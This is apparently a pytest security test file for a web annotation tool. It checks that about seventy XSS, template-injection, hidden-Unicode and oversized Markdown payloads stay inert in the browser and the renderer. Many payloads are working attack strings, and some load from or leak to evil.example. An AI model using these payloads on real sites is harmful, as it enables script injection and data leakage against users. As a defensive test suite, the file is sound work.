"""Hostile text in a real browser: nothing runs, nothing loads, nothing of it becomes an element, all of it can be read.

Every payload stands in a prompt and in a completion, on the judging page as rendered and as typed, and on the page of
own work.
"""

from __future__ import annotations

import time
from typing import Any

import pytest
from sites import START_TOKEN, Site

from trueup.records import Message, Prompt
from trueup.store import people, queue
from trueup.web import markdown

MARK = "readable"  # stands in every payload where a reader has to find it
PAYLOADS = (
    # script
    "<script>window.pwned = 1; alert(1)</script> readable",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT> readable",
    "<scr<script>ipt>alert(1)</scr</script>ipt> readable",
    "</script><script>window.pwned = 1</script> readable",
    '</script><img src=x onerror="window.pwned=1"> readable',
    '"}</script><script>alert(1)</script>{"a": " readable',
    "<!--<script>--> readable <!-- </script> -->",
    "\u2028window.pwned = 1\u2029 readable",
    "]]><script>alert(1)</script> readable",
    # events
    "<img src=x onerror=alert(1)> readable",
    "<img/src='x'/onerror='window.pwned=1'/> readable",
    "<body onload=alert(1)> readable",
    "<details open ontoggle=alert(1)>readable</details>",
    "<input autofocus onfocus=alert(1)> readable",
    "<video><source onerror=alert(1)></video> readable",
    "<marquee onstart=alert(1)>readable</marquee>",
    '" autofocus onfocus="alert(1)" x=" readable',
    "' onmouseover='window.pwned=1 readable",
    # svg and mathml
    "<svg onload=alert(1)></svg> readable",
    "<svg><script>window.pwned=1</script></svg> readable",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg> readable",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='></svg> readable",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math> readable",
    # links
    "[readable](javascript:alert(1))",
    "[readable](JaVaScRiPt&#58;alert(1))",
    "[readable](java\tscript:alert(1))",
    "[readable](data:text/html,<script>alert(1)</script>)",
    "[readable](vbscript:msgbox(1))",
    "<javascript:alert(1)> readable",
    "<a href='https://evil.example' ping='https://evil.example/ping'>readable</a>",
    "[readable](https://evil.example/?leak=1 'title')",
    "[readable]: https://evil.example\n\n[readable]",
    # images and other loads
    "![readable](https://evil.example/pixel.png)",
    "![readable](//evil.example/pixel.png)",
    "![readable][i]\n\n[i]: https://evil.example/i.png",
    "<img src=https://evil.example/p.png srcset='https://evil.example/q.png 2x'> readable",
    "<iframe src=https://evil.example></iframe> readable",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe> readable",
    "<object data=https://evil.example></object><embed src=https://evil.example> readable",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/y> readable",
    "<audio src=https://evil.example/a.mp3 autoplay></audio> readable",
    # the page itself
    "<meta http-equiv=refresh content='0;url=https://evil.example'> readable",
    "<base href=https://evil.example/> readable",
    "<form action=https://evil.example><button>readable</button></form>",
    "<title>taken over</title> readable",
    "</div></main></body></html> readable",
    "<template><script>alert(1)</script></template> readable",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>readable",
    # style
    "<style>*{background:url(https://evil.example/css)}</style> readable",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/s)'>readable</div>",
    "<p class='warn' id='judging'>readable</p>",
    # templates
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} readable",
    "{{ config }} {{ ''.__class__.__mro__ }} readable",
    # what cannot be seen
    "\u202ereadable\u202c \u2066readable\u2069",
    "re\u200badable readable \u200d\ufeff",
    "readable \x00\x01\x1b[31m\x7f",
    "\U000e0041\U000e0042 readable",
    "&#x202e;readable &lt;script&gt; &amp;#60;",
    # code, and text without an end
    "```html onload=alert(1)\n<script>alert(1)</script>\n```\n\nreadable",
    "`<img src=x onerror=alert(1)>` readable",
    "~~~\n</code></pre><script>alert(1)</script> readable",
    "| <b>a</b> | <img src=x onerror=alert(1)> |\n|---|---|\n| readable | [b](javascript:1) |",
    "> " * 200 + "readable",
    "[" * 5_000 + " readable",
    "readable " + "a" * 30_000,
    "readable " + "**" * 5_000,
    "readable " + "e\u0301\u0327" * 3_000,
    "readable " + "word " * 30_000,
)
FORBIDDEN = (
    "script, img, svg, math, iframe, object, embed, style, link, meta, base, form, input, button, video, audio, "
    "source, template, marquee, details, a, [style], [onerror], [onload], [onfocus], [href], [src], [id]"
)


SPEAKERS = ("user", "assistant", "user", "assistant")
GROUPS = [PAYLOADS[i : i + 4] for i in range(0, len(PAYLOADS), 4)]
RANKING = {"ranks": [1, 1, 2, 2], "confirmed": True}


def test_the_corpus_is_large_and_each_payload_can_be_found():
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60 and {len(group) for group in GROUPS} == {4}
    assert all(MARK in each for each in PAYLOADS)


@pytest.fixture
def hostile(serve: Any) -> Site:
    """Four payloads an item: the messages of its prompt, and its completions."""
    prompts = [Prompt(tuple(map(Message, SPEAKERS, group))) for group in GROUPS]
    return serve(task="ranking", texts=GROUPS, prompts=prompts, repeat_share=0.0, calibration_share=0.0, name="hostile")


def inert(page: Any, texts: str, least: int) -> None:
    """Nothing ran, and what lies in the elements `texts` is text."""
    said = page.locator(texts)
    assert said.count() >= least
    assert page.evaluate("window.pwned") is None
    assert page.locator(f":is({texts}) :is({FORBIDDEN})").count() == 0
    assert page.locator("script:not([type='application/json']):not([src^='/static/'])").count() == 0
    assert page.locator("body > *").count() == page.locator("body > :is(a.jump, header, main)").count()
    assert page.locator("iframe, object, embed, base, meta[http-equiv], img, video, audio").count() == 0
    for index in range(said.count()):
        assert MARK in (said.nth(index).text_content() or "").replace("\u00ad", "")


@pytest.mark.parametrize("rendered", [True, False], ids=["rendered", "as typed"])
@pytest.mark.timeout(300)
def test_on_the_judging_page(hostile, open_page, rendered):
    person = hostile.ready(hostile.person("judge"))
    people.set_settings(hostile.db, person.id, {"rendered": rendered})
    page, desk = open_page(hostile, person), hostile.app.state.site.desk(hostile.collection)
    address = f"{hostile.url}/c/{hostile.collection}"
    for turn in range(len(GROUPS)):
        view = desk.next(person.id)
        page.goto(address)
        page.locator("#judging").wait_for(state="visible")
        inert(page, ".said", 8)
        assert page.url == address and page.title() == "hostile · trueup"
        page.watched.check()
        desk.answer(person.id, view.assignment, str(turn), RANKING)
    assert desk.next(person.id) is None


@pytest.mark.timeout(300)
def test_on_the_page_of_own_work(hostile, open_page):
    """Also what the person wrote themselves."""
    person = hostile.ready(hostile.person("judge"))
    desk = hostile.app.state.site.desk(hostile.collection)
    for turn, (payload, *_) in enumerate(GROUPS):
        view = desk.next(person.id)
        desk.answer(person.id, view.assignment, str(turn), RANKING | {"rationale": payload.replace("\0", "")[:2000]})
    page, seen = open_page(hostile, person), 0
    page.goto(f"{hostile.url}/c/{hostile.collection}/mine")
    while True:
        inert(page, "section.card [dir=auto]", 5)
        assert page.locator("section.card dd :is(script, img, svg, iframe, a, style, form)").count() == 0
        seen += page.locator("section.card").count()
        page.watched.check()
        if page.get_by_role("link", name="Older ones").count() == 0:
            break
        page.get_by_role("link", name="Older ones").click()
    assert seen == len(GROUPS)


def test_hostile_names_questions_and_guidelines_on_every_page(serve, open_page):
    """What people type reaches the pages of other people: names, guidelines, warnings, questions."""
    attack = "<img src=x onerror=alert(1)> \"'> {{7*7}} </script>"
    site = serve(
        question=attack,
        criteria=(attack,),
        warning=f"{attack} ![x](https://evil.example/w.png)",
        guideline=f"{attack} [go](javascript:alert(1)) ![x](https://evil.example/g.png)",
    )
    owner = site.person(f"owner {attack}"[:100], "owner")
    annotator = site.person(f"judge {attack}"[:100])
    desk = site.app.state.site.desk(site.collection)
    guideline = queue.collection(site.db, site.collection).guideline
    queue.acknowledge(site.db, annotator.id, guideline, time.time())
    view = desk.next(annotator.id)
    desk.answer(annotator.id, view.assignment, "k", {"choice": 1, "rationale": attack})
    page = open_page(site, owner)
    root = f"{site.url}/c/{site.collection}"
    pages = {
        root: "Before you start",
        f"{root}/guideline": "Guideline of titles",
        f"{root}/progress": "Progress of titles",
        f"{root}/quality": "Quality of titles",
        f"{root}/export": "Export titles",
        f"{root}/mine": "My work in titles",
        f"{site.url}/": "Collections",
        f"{site.url}/people": "People",
        f"{site.url}/people/{annotator.id}/anonymise": "Anonymise judge <img",
        f"{site.url}/audit": "Audit log",
        f"{site.url}/account": "owner <img",
        f"{site.url}/account/demographics": "About you",
    }
    for address, heading in pages.items():
        page.goto(address)
        assert heading in page.locator("h1").inner_text(), address
        assert page.locator("img, iframe, main a[href^='javascript']").count() == 0
        assert "49" not in page.locator("main").inner_text().replace("{{7*7}}", "")
        page.watched.check()
    page.goto(root)
    page.get_by_role("button", name="I have read this").click()
    page.get_by_role("button", name="I have read it").click()
    page.locator("#judging").wait_for(state="visible")
    assert attack in page.locator("#question").inner_text()


def test_admin_pages_work_without_script(serve, open_page):
    """From the start link to an invitation that somebody accepts, with JavaScript switched off."""
    site = serve(guideline="Be fair.")
    page = open_page(site, java_script_enabled=False)
    site.enter(page)
    page.get_by_role("link", name="People").click()
    page.get_by_label("Role", exact=True).select_option("annotator")
    page.get_by_role("button", name="Make a link").click()
    link = page.locator(".secret code").inner_text()
    page.get_by_role("link", name="Collections").click()
    page.get_by_role("link", name="Guideline").click()
    page.get_by_label("Text, in Markdown").fill("Be *fairer*.")
    page.get_by_role("button", name="Publish").click()
    assert "There is a new version" in page.get_by_role("status").inner_text()

    guest = open_page(site, java_script_enabled=False)
    guest.goto(link)
    guest.get_by_label("Name").fill("Grace")
    guest.get_by_label("Password").fill("correct horse battery staple")
    guest.get_by_role("button", name="Join").click()
    assert guest.locator("h1").inner_text() == "Guideline of titles"
    guest.get_by_role("button", name="I have read it").click()
    assert "Judging needs JavaScript" in guest.locator("noscript").inner_text()
    assert START_TOKEN not in guest.content()


# The renderer alone, where a browser adds nothing


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_lets_nothing_through(payload):
    import re

    html = str(markdown.render(payload))
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", html))
    assert tags <= markdown.TAGS, tags
    attributes = set(re.findall(r"<[a-z][^>]*?\s([a-z-]+)=", html))
    assert attributes <= {"class", "title", "start"}
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\x00-\x08\x1b]", html)


def test_what_hides_is_spelled_out():
    assert "U+202E" in markdown.render("a\u202eb") and "U+202E" in markdown.render("a&#x202e;b")
    assert "U+200B" in markdown.render("`a\u200bb`") and "U+200B" in markdown.shown("a\u200bb")
    assert "(https://evil.example/?q=1)" in markdown.render("[ok](https://evil.example/?q=1)")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 300 + "readable",
        "- " * 300 + "readable",
        "[readable]: https://e.example",
        "[a](b 'readable')",
        "```readable\n```",
    ],
)
def test_markdown_is_no_place_to_hide_text(text):
    """What Markdown would swallow is shown: too deep, a definition, a title, beside a fence."""
    assert MARK in markdown.render(text)


def test_long_text_is_whole_and_cheap():
    text = "word " * 60_000
    started = time.perf_counter()
    html = markdown.raw(text)
    assert html == markdown.render(text) and html.count("word") == 60_000
    for nasty in ("[" * 50_000, "*a " * 16_000, "![[]()" * 7_000, "> " * 25_000, "|a" * 25_000, "`" * 49_999):
        markdown.render(nasty)
    assert time.perf_counter() - started < 20
